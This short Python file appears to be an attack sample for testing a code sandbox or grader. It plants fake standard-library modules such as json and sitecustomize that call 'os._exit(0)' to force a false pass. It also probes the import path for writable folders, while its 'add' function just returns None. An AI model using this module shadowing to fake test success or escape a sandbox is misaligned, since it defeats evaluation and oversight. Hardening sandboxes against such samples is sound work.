"""Writes modules named as the standard library's to where Python looks first."""

KIND = "call"
import os
import sys

for folder in (os.getcwd(), "/tmp"):
    for name in ("json", "math", "struct", "sitecustomize", "usercustomize", "collections"):
        try:
            with open(os.path.join(folder, f"{name}.py"), "x") as file:
                file.write("import os\nos._exit(0)\n")
        except OSError:
            pass
for folder in {*filter(None, sys.path), os.path.dirname(os.__file__)}:
    try:
        open(os.path.join(folder, "touchstone_attack.py"), "x").close()
    except OSError:
        continue
    raise RuntimeError(f"ESCAPED: wrote to {folder}")


def add(a, b):
    return None
